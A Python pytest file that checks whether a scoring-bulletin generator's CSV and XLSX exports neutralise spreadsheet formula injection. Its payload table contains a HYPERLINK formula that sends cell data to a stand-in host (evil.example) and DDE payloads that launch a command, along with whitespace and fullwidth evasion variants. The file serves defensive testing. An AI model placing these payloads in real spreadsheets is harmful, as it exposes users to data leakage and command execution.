"""Formula injection: no text from the repository becomes a live formula in any CSV or XLSX we write.

Each payload is put where repository text reaches the spreadsheets (a unit's
name, a person's name, an outlet's name, an item's title); the exports are read
back as a spreadsheet program would see them: CSV cells must carry the OWASP
apostrophe, XLSX cells must be plain strings (never ``data_type == 'f'``), and
real negative figures must stay numbers.
"""
from __future__ import annotations

import copy
import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from gitbuilder import LI, SCORING, UNITS, WANG, ZHANG, ZHAO, GitRepo, instance, solicitation, submission
from recordkit import bulletin
from sitekit import run_build

from generator.documents.cells import csv_value, is_live

A = "submissions/2026/03/a.md"
URL = "https://example.gov.cn/proof"

# name -> (payload, the unit's name (payload + 科) as the CSV must hold it). YAML folds a leading CR
# or tab of a plain value away, so those reach the exports as the bare formula.
PAYLOADS: dict[str, tuple[str, str]] = {
    "equals-hyperlink": ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
                         '\'=HYPERLINK("http://evil.example/?x="&A1,"点击查看")科'),
    "plus-dde": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0科"),
    "minus-dde": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0科"),
    "at-sum": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0科"),
    "tab-equals": ("\t=1+1", "'=1+1科"),
    "cr-equals": ("\r=1+1", "'=1+1科"),
    "space-equals": ("  =1+1", "'=1+1科"),
    "ideographic-space-at": ("\u3000@A1", "'@A1科"),
    "fullwidth-equals": ("＝1+1", "'＝1+1科"),
}

# Where the payload goes in the repository.
PLACES = ("unit", "person", "outlet", "title")


def _hostile_instance(path: Path, payload: str) -> GitRepo:
    units = copy.deepcopy(UNITS)
    scoring = copy.deepcopy(SCORING)
    units["units"][0]["name"] = payload + "科"            # jianguan
    units["people"][0]["name"] = payload + "员"           # zhangsan, the author
    scoring["outlets"][0]["name"] = payload + "网"        # zjt
    repo = instance(path, units=units, scoring=scoring)
    repo.write(A, submission(title=payload + "稿", authors=["zhangsan"],
                             adoptions=[{"outlet": "zjt", "date": dt.date(2026, 3, 20), "evidence": URL}]))
    repo.commit("报送", by=ZHANG, date="2026-03-10 09:00 +0800")
    for who in (WANG, ZHAO, LI):
        repo.approve(A, by=who, date="2026-03-11 10:00 +0800")
    # A solicitation nobody answers: a real negative figure (missed_penalty -5) for every unit.
    repo.write("solicitations/2026-001.md", solicitation(issued="2026-03-02"))
    repo.commit("约稿", by=ZHAO, date="2026-03-02 09:00 +0800")
    return repo


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _assert_csv_inert(rows: list[list[str]], payload: str, expected: str) -> None:
    cells = [c for row in rows for c in row]
    core = payload.strip()
    for cell in cells:
        assert not is_live(cell), repr(cell)
        assert core not in cell or cell.startswith("'"), repr(cell)
    assert sum(1 for c in cells if core in c) >= 4, cells      # the unit in each table, the person...
    assert expected in cells
    # Real negative figures stay numbers.
    assert "-5" in cells


def _assert_xlsx_inert(data: bytes, payload: str) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    hits = []
    negatives = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and payload.strip() in cell.value:
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix or not is_live(cell.value), (ws.title, cell.coordinate)
                    hits.append(cell.value)
                if isinstance(cell.value, (int, float)) and cell.value < 0:
                    assert cell.data_type == "n"
                    negatives.append(cell.value)
    assert len(hits) >= 3, "the payload is not in the workbook"
    assert not any(h.startswith("'") for h in hits)       # the text is kept as typed: the style makes it inert
    return negatives


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_scores_csv_and_xlsx_hold_no_live_formula(tmp_path: Path, name: str) -> None:
    payload, expected = PAYLOADS[name]
    repo = _hostile_instance(tmp_path / "repo", payload)
    proc = bulletin("scores", "--period", "2026-03", "--as-of", "2026-03-31", "--format", "csv",
                    "--repo", str(repo.path), "--output", str(tmp_path / "s.csv"))
    assert proc.returncode == 0, proc.stderr
    rows = _csv_cells((tmp_path / "s.csv").read_bytes())
    _assert_csv_inert(rows, payload, expected)
    # The unit ranking has the site's columns: the unit's name (neutralised) in the second.
    by_unit = {r[1]: r for r in rows if len(r) == 9}
    assert expected in by_unit
    assert by_unit["质监站"][2] == "-5"
    proc = bulletin("scores", "--period", "2026-03", "--as-of", "2026-03-31", "--format", "xlsx",
                    "--repo", str(repo.path), "--output", str(tmp_path / "s.xlsx"))
    assert proc.returncode == 0, proc.stderr
    negatives = _assert_xlsx_inert((tmp_path / "s.xlsx").read_bytes(), payload)
    assert -5 in negatives


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_issued_bulletin_workbook_holds_no_live_formula(tmp_path: Path, name: str) -> None:
    payload, _ = PAYLOADS[name]
    repo = _hostile_instance(tmp_path / "repo", payload)
    out = tmp_path / "b.xlsx"
    proc = bulletin("issue", "2026-03", "--repo", str(repo.path), "--as-of", "2026-04-03", "--date", "2026-04-03",
                    "--dry-run", "--xlsx", str(out))
    assert proc.returncode == 0, proc.stderr
    negatives = _assert_xlsx_inert(out.read_bytes(), payload)
    assert -5 in negatives


def test_site_downloads_hold_no_live_formula(tmp_path: Path) -> None:
    """One site: the CSV and XLSX downloads of every period, with the sharpest payload."""
    payload, expected = PAYLOADS["equals-hyperlink"]
    repo = _hostile_instance(tmp_path / "repo", payload)
    out = tmp_path / "site"
    run_build(repo.path, out, "--as-of", "2026-03-31")
    downloads = sorted((out / "downloads").glob("rankings-*"))
    assert {p.name for p in downloads} >= {"rankings-2026-03.csv", "rankings-2026-03.xlsx",
                                           "rankings-2026-q1.csv", "rankings-2026-q1.xlsx"}
    for path in downloads:
        if path.suffix == ".csv":
            _assert_csv_inert(_csv_cells(path.read_bytes()), payload, expected)
        else:
            assert -5 in _assert_xlsx_inert(path.read_bytes(), payload)


@pytest.mark.parametrize("text, live", [
    ("=1+1", True), ("+1", False), ("-5", False), ("-5.25", False), ("+1e3", False), ("-", False),
    ("－", False), ("-A1", True), ("@x", True), ("\t1", True), ("\r1", True), ("\n=1", True),
    (" -1+1", True), ("1-1", False), ("建筑管理科", False), ("", False), ("  ", False), ("2026-03-20", False),
    ("＠x", True), ("＋1", True), ("=", True),
])
def test_the_one_rule(text: str, live: bool) -> None:
    assert is_live(text) is live
    assert csv_value(text) == ("'" + text if live else text)
    assert csv_value(-5.0) == -5.0
